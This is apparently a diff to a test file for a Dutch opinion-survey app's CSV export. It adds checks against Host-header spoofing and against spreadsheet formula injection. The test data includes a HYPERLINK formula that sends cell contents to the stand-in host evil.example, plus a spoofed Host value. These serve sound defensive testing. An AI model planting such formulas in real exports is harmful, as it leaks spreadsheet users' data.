@@ -35,7 +35,7 @@ describe.each(testDatabases)("opinions report and export on $name", (database) =
     return made;
   }
 
-  it("says there is no map before the analysis job has run, then shows map, table, groups and common ground", async () => {
+  it("says there is no map before the analysis has run, then shows map, table, groups, common ground", async () => {
     const { conversation } = await polarised();
     const early = await t.agent().get(`/gesprekken/${conversation.id}/resultaten`);
     expect(early.body).toContain("te weinig antwoorden");
@@ -98,6 +98,11 @@ describe.each(testDatabases)("opinions report and export on $name", (database) =
     expect(data.votes).toHaveLength(12 * SEEDS.length);
     expect(data.participantsVotes.rows.every((r) => r.groupId !== null)).toBe(true);
     expect(data.summary[0]).toEqual(["topic", conversation.topic]);
+    // The conversation's address is the site's own, never the request's Host header.
+    const url = `http://localhost:3000/gesprekken/${conversation.id}`;
+    expect(data.summary).toContainEqual(["url", url]);
+    const spoofed = await t.agent().get(`/gesprekken/${conversation.id}/export/summary.csv`, { host: "evil.example" });
+    expect(parseSummaryCsv(spoofed.body)).toContainEqual(["url", url]);
     expect((await t.agent().get(`/gesprekken/${conversation.id}/export/passwords.csv`)).statusCode).toBe(404);
 
     const imported = await importConversation(t.services, { siteId: t.site.id, actorUserId: null, data });
@@ -106,5 +111,34 @@ describe.each(testDatabases)("opinions report and export on $name", (database) =
     const copy = await loadAnalysis(db(), imported.id);
     const sizes = (a: typeof original) => a!.result.groups.map((g) => g.participants.length).sort();
     expect(sizes(copy)).toEqual(sizes(original));
+  });
+
+  it("neutralises formulas in every exported file, keeps -1 votes as numbers, and reads them back", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
+    const { conversation } = await makeConversation(t, {
+      topic: "@SUM(1+1) onderwerp",
+      seeds: [formula, "+31 6 is geen formule", "Gewone stelling"],
+    });
+    const statements = await db()
+      .selectFrom("opinion_statements")
+      .select("id")
+      .where("conversation_id", "=", conversation.id)
+      .execute();
+    const agent = t.agent();
+    for (const s of statements)
+      await agent.post(`/gesprekken/${conversation.id}/stemmen`, { statement: String(s.id), vote: "disagree" });
+    const files: Record<string, string> = {};
+    for (const file of ["comments.csv", "votes.csv", "participants-votes.csv", "summary.csv"])
+      files[file] = (await t.agent().get(`/gesprekken/${conversation.id}/export/${file}`)).body;
+    for (const [file, body] of Object.entries(files))
+      for (const line of body.split("\n"))
+        for (const cell of line.split(","))
+          expect(/^"?[=+@\t\r]|^"?-(?!\d+$)/.test(cell), `${file}: ${cell}`).toBe(false);
+    expect(files["comments.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(files["votes.csv"]).toMatch(/,-1\n/);
+    expect(parseCommentsCsv(files["comments.csv"]!).map((c) => c.body)).toEqual(
+      expect.arrayContaining([formula, "+31 6 is geen formule"]),
+    );
+    expect(parseSummaryCsv(files["summary.csv"]!)[0]).toEqual(["topic", "@SUM(1+1) onderwerp"]);
   });
 });
